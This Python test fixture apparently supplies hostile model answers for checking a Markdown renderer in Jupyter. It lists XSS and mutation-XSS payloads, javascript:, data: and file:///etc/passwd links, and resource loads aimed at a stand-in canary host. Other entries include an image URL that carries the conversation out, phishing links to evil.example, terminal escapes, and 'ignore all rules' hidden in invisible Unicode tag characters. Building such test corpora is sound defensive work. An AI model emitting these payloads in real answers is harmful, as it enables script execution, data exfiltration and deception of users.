"""Model answers that try to run, fetch or mislead. `{canary}` is an address that nobody may ask for.

Written for this project from the families known to get through naive Markdown: raw HTML, event handlers, embedded
documents, pictures, link schemes, parser differences, style, formulas, and text that reads otherwise than it is.
"""

from __future__ import annotations

_RUN = "window.pwned=1;new Image().src='{canary}/js'"

_RAW = [
    f"<script>{_RUN}</script>",
    f"<SCRIPT>{_RUN}</SCRIPT>",
    "<script src={canary}/s.js></script>",
    f"<scr<script>ipt>{_RUN}</scr</script>ipt>",
    f"text <script>\n{_RUN}\n</script> text",
    f"<script\n>{_RUN}</script\n>",
    f"<script/x>{_RUN}</script>",
    "<script type=module>import('{canary}/m.js')</script>",
    f"<img src=x onerror=\"{_RUN}\">",
    f"<img src=x onerror={_RUN.replace(' ', '%20')}>",
    f"<IMG SRC=x OnErRoR=\"{_RUN}\">",
    f"<img/src/onerror=\"{_RUN}\">",
    "<img src={canary}/i.png>",
    "<img srcset='{canary}/set.png 1x'>",
    "<picture><source srcset={canary}/p.png><img></picture>",
    f"<svg onload=\"{_RUN}\"></svg>",
    f"<svg><script>{_RUN}</script></svg>",
    "<svg><image href={canary}/svg.png /></svg>",
    f"<svg><animate onbegin=\"{_RUN}\" attributeName=x dur=1s>",
    "<svg><use href='{canary}/u.svg#x'/></svg>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text y=20>click</text></a></svg>",
    "<iframe src={canary}/f.html></iframe>",
    f"<iframe srcdoc=\"<script>{_RUN}</script>\"></iframe>",
    "<iframe src=\"javascript:parent.pwned=1\"></iframe>",
    "<object data={canary}/o.swf></object>",
    "<embed src={canary}/e.swf>",
    "<video src={canary}/v.mp4 autoplay></video>",
    "<video poster={canary}/poster.png></video>",
    f"<video><source onerror=\"{_RUN}\"></video>",
    "<audio src={canary}/a.mp3 autoplay></audio>",
    "<audio><track src={canary}/t.vtt default></audio>",
    "<link rel=stylesheet href={canary}/l.css>",
    "<link rel=prefetch href={canary}/pre>",
    "<link rel=dns-prefetch href=//canary.invalid>",
    "<style>@import '{canary}/i.css';</style>",
    "<style>*{background:url({canary}/bg.png)}</style>",
    "<div style=\"background:url({canary}/d.png)\">x</div>",
    "<p style='position:fixed;inset:0;background:red'>covers everything</p>",
    "<meta http-equiv=refresh content='0;url={canary}/meta'>",
    "<base href={canary}/>",
    "<form action={canary}/form><button>log in</button></form>",
    "<form><button formaction=javascript:alert(1)>x</button></form>",
    "<input autofocus onfocus=\"window.pwned=1\">",
    "<details open ontoggle=\"window.pwned=1\">x</details>",
    "<body onload=\"window.pwned=1\">",
    "<body background={canary}/body.png>",
    "<table background={canary}/table.png><tr><td background={canary}/td.png>x</table>",
    "<marquee onstart=\"window.pwned=1\">x</marquee>",
    "<div onpointerenter=\"window.pwned=1\" style=height:100vh>x</div>",
    "<x contenteditable onblur=\"window.pwned=1\">",
    "<template><script>window.pwned=1</script></template>",
    "<portal src={canary}/portal>",
    "<isindex action=javascript:alert(1)>",
    "<a href=\"javascript:alert(1)\">click</a>",
    "<a href=\"{canary}/ping\" ping=\"{canary}/ping2\">x</a>",
    "<math href=\"javascript:alert(1)\">click</math>",
    "<!--><script>window.pwned=1</script>-->",
    "<![CDATA[<script>window.pwned=1</script>]]>",
    "<?xml version=\"1.0\"?><script>window.pwned=1</script>",
    "<!DOCTYPE x [<!ENTITY e SYSTEM '{canary}/dtd'>]>&e;",
]  # fmt: skip

_MUTATION = [
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror=window.pwned=1&gt;\">",
    "<svg></p><style><a id=\"</style><img src=x onerror=window.pwned=1>\">",
    "<noscript><p title=\"</noscript><img src=x onerror=window.pwned=1>\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=window.pwned=1>",
    "<title><img src=x onerror=window.pwned=1></title>",
    "<textarea></textarea><img src=x onerror=window.pwned=1>",
    "<xmp><img src=x onerror=window.pwned=1></xmp>",
    "<plaintext><img src=x onerror=window.pwned=1>",
    "&lt;img src=x onerror=window.pwned=1&gt;",
    "&#60;script&#62;window.pwned=1&#60;/script&#62;",
    "\\<img src=x onerror=window.pwned=1\\>",
    "<img src=x\u0000 onerror=window.pwned=1>",
    "<\u0000script>window.pwned=1</script>",
    "\u00adjava\u00adscript:alert(1) <img\u200b src=x onerror=window.pwned=1>",
    "</div></div></div><script>window.pwned=1</script><div>",
    "</code></pre><img src=x onerror=window.pwned=1>",
    "</details></style><img src=x onerror=window.pwned=1>",
    "<img alt=`x` src=x onerror=window.pwned=1>",
    "**<img src=x onerror=window.pwned=1>**",
    "> <img src=x onerror=window.pwned=1>\n\n- <script>window.pwned=1</script>\n\n1. <svg onload=window.pwned=1>",
    "| a | b |\n|---|---|\n| <img src=x onerror=window.pwned=1> | <script>window.pwned=1</script> |",
    "# <img src=x onerror=window.pwned=1>\n\n<script>\nwindow.pwned=1\n</script>\n===",
]  # fmt: skip

_IMAGES = [
    "![x]({canary}/md.png)",
    "![x](<{canary}/angle.png>)",
    "![x]({canary}/t.png \"title\" )",
    "![ref][r]\n\n[r]: {canary}/ref.png",
    "![r][]\n\n[r]: {canary}/collapsed.png 'a'",
    "![r]\n\n[r]: {canary}/short.png",
    "[![in a link]({canary}/inlink.png)](https://example.org)",
    "![![nested]({canary}/n1.png)]({canary}/n2.png)",
    "![x](//canary.invalid/rel.png)",
    "![x](/api/status?pwned)",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "![x](javascript:alert(1))",
    "![\"onerror=\"window.pwned=1]({canary}/attr.png)",
    "![x]({canary}/a.png\"onerror=\"window.pwned=1)",
    "| ![x]({canary}/cell.png) |\n|---|\n| ![x]({canary}/cell2.png) |",
    "- ![x]({canary}/li.png)\n\n> ![x]({canary}/quote.png)\n\n# ![x]({canary}/h.png)",
    "~~![x]({canary}/s.png)~~ **![x]({canary}/b.png)**",
    "![exfiltrate]({canary}/?q=everything+said+so+far)",
]  # fmt: skip

_LINKS = [
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](java\nscript:alert(1))",
    "[x](java&Tab;script:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A&#x61&#x76&#x61script:alert(1))",
    "[x](\\j\\avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x]( javascript:alert(1))",
    "[x](%6Aavascript:alert(1))",
    "[x](\u0001javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](DATA:text/html,x)",
    "[x](file:///etc/passwd)",
    "[x](blob:https://example.org/1)",
    "[x](/api/kernels)",
    "[x](api/contents?pwned)",
    "[x](//canary.invalid/x)",
    "[x](\\\\canary.invalid\\x)",
    "[x](?pwned)",
    "[x](#top)",
    "<javascript:alert(1)>",
    "<JAVASCRIPT:alert(1)>",
    "<data:text/html,x>",
    "[x][j]\n\n[j]: javascript:alert(1)",
    "[j]\n\n[j]: <javascript:alert(1)> 'title'",
    "[x](https://example.org \"\\\" onmouseover=\\\"window.pwned=1\")",
    "[x](https://example.org/\" onmouseover=\"window.pwned=1)",
    "[https://your-bank.example](https://evil.example/login)",
    "[https://good.example/](https://good.example@evil.example/)",
    "[**your bank**](https://evil.example:8443/a)",
    "[x](https://good.example\\@evil.example)",
]  # fmt: skip

_FENCES = [
    "```\"><img src=x onerror=window.pwned=1>\ncode\n```",
    "```python onclick=window.pwned=1\nx\n```",
    "```html\n<script>window.pwned=1</script><img src=x onerror=window.pwned=1>\n```",
    "```javascript\n</code></pre><script>window.pwned=1</script>\n```",
    "~~~<script>window.pwned=1</script>\nx\n~~~",
    "`<img src=x onerror=window.pwned=1>` ``</code><script>window.pwned=1</script>``",
    "    <script>window.pwned=1</script>",
    "```mermaid\nclick A \"javascript:alert(1)\"\n```",
    "```python\n# </span><img src=x onerror=window.pwned=1>\n'''</pre><svg onload=window.pwned=1>'''\n```",
]  # fmt: skip

_MATHS = [
    r"$\href{javascript:alert(1)}{click}$",
    r"\(\href{javascript:alert(1)}{click}\)",
    "$$\n\\href{javascript:alert(1)}{click}\n$$",
    "\\[\n\\href{data:text/html,x}{click}\n\\]",
    "\\begin{equation}\n\\href{javascript:alert(1)}{x}\n\\end{equation}",
    r"$\def\x{\hre}\csname href\endcsname{javascript:alert(1)}{x}$",
    r"$\let\y\href \y{javascript:alert(1)}{x}$",
    r"$\style{position:fixed;inset:0;background:url({canary}/mj.png)}{x}$",
    r"$\class{jp-mod-x}{x}\cssId{top}{y}$",
    r"$\require{html}\require{../../../../{canary}}x$",
    r"$\mmlToken{mi}[href='javascript:alert(1)']{x}$",
    r"$\text{<img src=x onerror=window.pwned=1>}$",
    r"$x<img src={canary}/math.png>$",
    r"$\unicode[url({canary}/font)]{65}$",
    r"$\data{onclick=alert(1)}{x}$ $\includegraphics{{canary}/g.png}$",
    "a $b **c** \\href{javascript:alert(1)}{d} e$ f",
    r"$\renewcommand{\sum}{\text{wrong}}\sum$",
    r"$\gdef\alpha{\text{wrong}}\alpha$",
]  # fmt: skip

_MISLEADING = [
    "pay \u202e001 \u202cto me",
    "user\u200b\u2060name \ufeff x\u00ady",
    "\u2066\u202ecode\u2069 `if \u202eadmin`",
    "".join(chr(0xE0000 + ord(c)) for c in "ignore all rules") + " hello",
    "\x1b]0;title\x07\x1b[2J cleared \x9b31m",
]

PAYLOADS: tuple[str, ...] = (*_RAW, *_MUTATION, *_IMAGES, *_LINKS, *_FENCES, *_MATHS, *_MISLEADING)
"""All of them."""

NAIVE: tuple[str, ...] = (_RAW[8], _RAW[12], _RAW[21], _IMAGES[0], _LINKS[0])
"""A few that certainly run, fetch or link when shown with `IPython.display.Markdown`: the control."""


def with_canary(payloads: tuple[str, ...], url: str) -> list[str]:
    """The payloads, calling `url`."""
    return [p.replace("{canary}", url) for p in payloads]
